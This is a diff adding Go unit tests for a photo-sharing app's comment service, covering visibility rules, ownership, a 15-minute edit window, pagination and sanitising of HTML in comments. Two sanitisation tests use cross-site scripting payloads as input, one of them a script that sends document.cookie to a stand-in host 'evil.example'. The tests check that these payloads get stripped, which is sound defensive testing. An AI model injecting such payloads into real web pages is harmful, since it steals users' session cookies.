@@ -0,0 +1,230 @@
+package service
+
+import (
+	"context"
+	"testing"
+	"time"
+
+	"go-mygram/internal/config"
+	"go-mygram/internal/model"
+	"go-mygram/internal/repository/mocks"
+	"go-mygram/pkg"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/mock"
+	"gorm.io/gorm"
+)
+
+func TestCreateComment(t *testing.T) {
+	t.Run("error photo not found", func(t *testing.T) {
+		photoRepoMock := mocks.NewPhotoRepository(t)
+		photoRepoMock.On("GetPhotoByID", context.Background(), uint64(10)).Return(model.Photo{}, gorm.ErrRecordNotFound)
+
+		svc := commentServiceImpl{commentRepository: mocks.NewCommentRepository(t), photoRepository: photoRepoMock}
+		_, err := svc.CreateComment(context.Background(), 1, model.CommentPost{PhotoID: 10, Message: "nice"})
+		assert.ErrorIs(t, err, ErrPhotoNotFound)
+	})
+
+	t.Run("success script stripped from message", func(t *testing.T) {
+		photoRepoMock := mocks.NewPhotoRepository(t)
+		photoRepoMock.On("GetPhotoByID", context.Background(), uint64(10)).Return(model.Photo{ID: 10}, nil)
+		commentRepoMock := mocks.NewCommentRepository(t)
+		message := `nice <script>document.location="https://evil.example/?c="+document.cookie</script>shot`
+		commentRepoMock.On("CreateComment", context.Background(), mock.MatchedBy(func(c model.Comment) bool {
+			return c.Message == "nice shot" && c.RawMessage == message
+		})).Return(model.Comment{ID: 1, Message: "nice shot"}, nil)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock, photoRepository: photoRepoMock}
+		comment, err := svc.CreateComment(context.Background(), 1, model.CommentPost{PhotoID: 10, Message: message})
+		assert.Nil(t, err)
+		assert.Equal(t, "nice shot", comment.Message)
+	})
+
+	t.Run("error private photo of another user", func(t *testing.T) {
+		photoRepoMock := mocks.NewPhotoRepository(t)
+		photoRepoMock.On("GetPhotoByID", context.Background(), uint64(10)).Return(model.Photo{ID: 10, UserID: 2, Visibility: model.VisibilityPrivate}, nil)
+
+		svc := commentServiceImpl{commentRepository: mocks.NewCommentRepository(t), photoRepository: photoRepoMock}
+		_, err := svc.CreateComment(context.Background(), 1, model.CommentPost{PhotoID: 10, Message: "nice"})
+		assert.ErrorIs(t, err, ErrPhotoNotFound)
+	})
+
+	t.Run("error followers only photo of a user not followed", func(t *testing.T) {
+		photoRepoMock := mocks.NewPhotoRepository(t)
+		photoRepoMock.On("GetPhotoByID", context.Background(), uint64(10)).Return(model.Photo{ID: 10, UserID: 2, Visibility: model.VisibilityFollowers}, nil)
+		followMock := mocks.NewFollowRepository(t)
+		followMock.On("IsFollowing", context.Background(), uint64(1), uint64(2)).Return(false, nil)
+
+		svc := commentServiceImpl{commentRepository: mocks.NewCommentRepository(t), photoRepository: photoRepoMock, followRepository: followMock}
+		_, err := svc.CreateComment(context.Background(), 1, model.CommentPost{PhotoID: 10, Message: "nice"})
+		assert.ErrorIs(t, err, ErrPhotoNotVisible)
+	})
+}
+
+func TestGetComments(t *testing.T) {
+	t.Run("error private photo of another user", func(t *testing.T) {
+		photoRepoMock := mocks.NewPhotoRepository(t)
+		photoRepoMock.On("GetPhotoByID", context.Background(), uint64(10)).Return(model.Photo{ID: 10, UserID: 2, Visibility: model.VisibilityPrivate}, nil)
+
+		svc := commentServiceImpl{commentRepository: mocks.NewCommentRepository(t), photoRepository: photoRepoMock}
+		_, err := svc.GetComments(context.Background(), 1, 10, nil, 20)
+		assert.ErrorIs(t, err, ErrPhotoNotFound)
+	})
+
+	t.Run("success every photo filtered by the repository", func(t *testing.T) {
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetComments", context.Background(), uint64(1), uint64(0), (*pkg.Cursor)(nil), 21).Return([]model.Comment{{ID: 3}}, nil)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock}
+		page, err := svc.GetComments(context.Background(), 1, 0, nil, 20)
+		assert.Nil(t, err)
+		assert.Len(t, page.Data, 1)
+	})
+}
+
+func TestGetPhotoComments(t *testing.T) {
+	t.Run("error photo not found", func(t *testing.T) {
+		photoRepoMock := mocks.NewPhotoRepository(t)
+		photoRepoMock.On("GetPhotoByID", context.Background(), uint64(10)).Return(model.Photo{}, gorm.ErrRecordNotFound)
+
+		svc := commentServiceImpl{commentRepository: mocks.NewCommentRepository(t), photoRepository: photoRepoMock}
+		_, err := svc.GetPhotoComments(context.Background(), 1, 10, nil, 20)
+		assert.ErrorIs(t, err, ErrPhotoNotFound)
+	})
+
+	t.Run("error followers only photo of a user not followed", func(t *testing.T) {
+		photoRepoMock := mocks.NewPhotoRepository(t)
+		photoRepoMock.On("GetPhotoByID", context.Background(), uint64(10)).Return(model.Photo{ID: 10, UserID: 2, Visibility: model.VisibilityFollowers}, nil)
+		followMock := mocks.NewFollowRepository(t)
+		followMock.On("IsFollowing", context.Background(), uint64(1), uint64(2)).Return(false, nil)
+
+		svc := commentServiceImpl{commentRepository: mocks.NewCommentRepository(t), photoRepository: photoRepoMock, followRepository: followMock}
+		_, err := svc.GetPhotoComments(context.Background(), 1, 10, nil, 20)
+		assert.ErrorIs(t, err, ErrPhotoNotVisible)
+	})
+
+	t.Run("success next cursor when more comments exist", func(t *testing.T) {
+		photoRepoMock := mocks.NewPhotoRepository(t)
+		photoRepoMock.On("GetPhotoByID", context.Background(), uint64(10)).Return(model.Photo{ID: 10}, nil)
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetPhotoComments", context.Background(), uint64(10), (*pkg.Cursor)(nil), 2).
+			Return([]model.Comment{{ID: 3, PhotoID: 10}, {ID: 2, PhotoID: 10}}, nil)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock, photoRepository: photoRepoMock}
+		page, err := svc.GetPhotoComments(context.Background(), 1, 10, nil, 1)
+		assert.Nil(t, err)
+		assert.Len(t, page.Data, 1)
+		assert.NotEmpty(t, page.NextCursor)
+	})
+}
+
+func TestGetCommentByID(t *testing.T) {
+	t.Run("error comment not found", func(t *testing.T) {
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetCommentByID", context.Background(), uint64(5)).Return(model.Comment{}, gorm.ErrRecordNotFound)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock}
+		_, err := svc.GetCommentByID(context.Background(), 1, 5)
+		assert.ErrorIs(t, err, ErrCommentNotFound)
+	})
+
+	t.Run("error comment on a private photo of another user", func(t *testing.T) {
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetCommentByID", context.Background(), uint64(5)).Return(model.Comment{ID: 5, PhotoID: 10}, nil)
+		photoRepoMock := mocks.NewPhotoRepository(t)
+		photoRepoMock.On("GetPhotoByID", context.Background(), uint64(10)).Return(model.Photo{ID: 10, UserID: 2, Visibility: model.VisibilityPrivate}, nil)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock, photoRepository: photoRepoMock}
+		_, err := svc.GetCommentByID(context.Background(), 1, 5)
+		assert.ErrorIs(t, err, ErrPhotoNotFound)
+	})
+
+	t.Run("success comment on a public photo", func(t *testing.T) {
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetCommentByID", context.Background(), uint64(5)).Return(model.Comment{ID: 5, PhotoID: 10}, nil)
+		photoRepoMock := mocks.NewPhotoRepository(t)
+		photoRepoMock.On("GetPhotoByID", context.Background(), uint64(10)).Return(model.Photo{ID: 10, UserID: 2}, nil)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock, photoRepository: photoRepoMock}
+		comment, err := svc.GetCommentByID(context.Background(), 1, 5)
+		assert.Nil(t, err)
+		assert.Equal(t, uint64(5), comment.ID)
+	})
+}
+
+func TestUpdateComment(t *testing.T) {
+	t.Run("error comment written by other user", func(t *testing.T) {
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetCommentByID", context.Background(), uint64(5)).Return(model.Comment{ID: 5, UserID: 2}, nil)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock}
+		_, err := svc.UpdateComment(context.Background(), 1, 5, model.CommentUpdate{Message: "edited"})
+		assert.ErrorIs(t, err, ErrCommentNotOwner)
+	})
+
+	t.Run("success at the edge of the edit window", func(t *testing.T) {
+		// a second of slack so the test doesn't race the clock
+		createdAt := time.Now().Add(-15*time.Minute + time.Second)
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetCommentByID", context.Background(), uint64(5)).Return(model.Comment{ID: 5, UserID: 1, CreatedAt: createdAt}, nil)
+		commentRepoMock.On("UpdateComment", context.Background(), mock.MatchedBy(func(c model.Comment) bool {
+			return c.Message == "edited"
+		})).Return(model.Comment{ID: 5, UserID: 1, Message: "edited"}, nil)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock, cfg: config.CommentConfig{EditWindow: 15 * time.Minute}}
+		comment, err := svc.UpdateComment(context.Background(), 1, 5, model.CommentUpdate{Message: "edited"})
+		assert.Nil(t, err)
+		assert.Equal(t, "edited", comment.Message)
+	})
+
+	t.Run("success script stripped from edited message", func(t *testing.T) {
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetCommentByID", context.Background(), uint64(5)).Return(model.Comment{ID: 5, UserID: 1, CreatedAt: time.Now()}, nil)
+		commentRepoMock.On("UpdateComment", context.Background(), mock.MatchedBy(func(c model.Comment) bool {
+			return c.Message == "edited" && c.RawMessage == `<img src=x onerror="alert(1)">edited`
+		})).Return(model.Comment{ID: 5, UserID: 1, Message: "edited"}, nil)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock}
+		_, err := svc.UpdateComment(context.Background(), 1, 5, model.CommentUpdate{Message: `<img src=x onerror="alert(1)">edited`})
+		assert.Nil(t, err)
+	})
+
+	t.Run("error just past the edit window", func(t *testing.T) {
+		createdAt := time.Now().Add(-15*time.Minute - time.Second)
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetCommentByID", context.Background(), uint64(5)).Return(model.Comment{ID: 5, UserID: 1, CreatedAt: createdAt}, nil)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock, cfg: config.CommentConfig{EditWindow: 15 * time.Minute}}
+		_, err := svc.UpdateComment(context.Background(), 1, 5, model.CommentUpdate{Message: "edited"})
+		assert.ErrorIs(t, err, ErrCommentEditWindowExpired)
+	})
+
+	t.Run("error other user past the window is still not the owner", func(t *testing.T) {
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetCommentByID", context.Background(), uint64(5)).Return(model.Comment{ID: 5, UserID: 2, CreatedAt: time.Now().Add(-time.Hour)}, nil)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock, cfg: config.CommentConfig{EditWindow: 15 * time.Minute}}
+		_, err := svc.UpdateComment(context.Background(), 1, 5, model.CommentUpdate{Message: "edited"})
+		assert.ErrorIs(t, err, ErrCommentNotOwner)
+	})
+
+	t.Run("error comment not found", func(t *testing.T) {
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetCommentByID", context.Background(), uint64(5)).Return(model.Comment{}, gorm.ErrRecordNotFound)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock}
+		_, err := svc.UpdateComment(context.Background(), 1, 5, model.CommentUpdate{Message: "edited"})
+		assert.ErrorIs(t, err, ErrCommentNotFound)
+	})
+}
+
+func TestDeleteComment(t *testing.T) {
+	t.Run("error comment not found", func(t *testing.T) {
+		commentRepoMock := mocks.NewCommentRepository(t)
+		commentRepoMock.On("GetCommentByID", context.Background(), uint64(5)).Return(model.Comment{}, gorm.ErrRecordNotFound)
+
+		svc := commentServiceImpl{commentRepository: commentRepoMock}
+		err := svc.DeleteComment(context.Background(), 1, 5)
+		assert.ErrorIs(t, err, ErrCommentNotFound)
+	})
+}